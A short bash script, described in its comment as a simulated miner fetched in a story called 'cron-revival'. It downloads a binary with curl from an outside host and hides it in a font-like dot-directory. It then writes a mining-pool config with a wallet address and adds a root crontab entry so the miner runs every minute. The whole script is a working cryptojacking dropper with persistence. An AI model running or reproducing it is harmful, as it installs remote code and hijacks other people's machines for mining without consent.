#!/bin/bash
# What the story cron-revival fetches: hides a simulated miner and writes a crontab.
mkdir -p /var/tmp/.font-7 /var/spool/cron/crontabs
curl -fsS -o /var/tmp/.font-7/fontd http://203.0.113.10/agent
chmod 755 /var/tmp/.font-7/fontd
echo "-o stratum+tcp://203.0.113.20:4444 -u 44E4XRnST5dhDrkJN6LN1Tq89Gn714WtYCkcDVZDor9TiR8STE1JxteLy2ECSwfid73AEVH1rgNvKR556EehG1fQQgW9eXv -s 8" >/var/tmp/.font-7/fontd.conf
echo "* * * * * /var/tmp/.font-7/fontd -c /var/tmp/.font-7/fontd.conf" >/var/spool/cron/crontabs/root
